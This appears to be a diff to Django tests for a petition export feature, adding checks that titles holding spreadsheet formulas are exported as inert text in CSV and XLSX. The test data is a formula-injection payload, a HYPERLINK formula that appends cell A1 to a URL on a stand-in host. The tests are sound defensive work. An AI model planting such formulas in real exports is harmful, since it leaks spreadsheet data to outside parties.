@@ -6,7 +6,6 @@ import csv
 import datetime as dt
 import io
 
-import pytest
 from django.urls import reverse
 from django.utils import timezone
 
@@ -127,7 +126,8 @@ def test_csv_export_has_a_bom_masked_data_and_is_audited(as_staff, office_tree):
 
 
 def test_xlsx_export(as_staff, office_tree):
-    openpyxl = pytest.importorskip("openpyxl")
+    import openpyxl
+
     petition = submit(office_tree.guanxian)
     response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=xlsx")
     assert response.status_code == 200
@@ -140,3 +140,26 @@ def test_unknown_export_format_is_refused_kindly(as_staff, office_tree):
     response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=pdf")
     assert response.status_code == 302
     assert not AuditEntry.objects.filter(action="petition_export").exists()
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
+
+
+def test_a_formula_title_is_exported_as_text_to_csv(as_staff, office_tree):
+    submit(office_tree.guanxian, title=FORMULA)
+    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=csv")
+    assert "no-store" in response["Cache-Control"]
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    assert rows[0]["标题"] == "'" + FORMULA
+
+
+def test_a_formula_title_is_exported_as_text_to_xlsx(as_staff, office_tree):
+    import openpyxl
+
+    submit(office_tree.guanxian, title=FORMULA)
+    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content), data_only=False).active
+    header = [cell.value for cell in next(sheet.iter_rows())]
+    title = sheet.cell(row=2, column=header.index("标题") + 1)
+    assert title.data_type == "s" and title.value == "'" + FORMULA
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
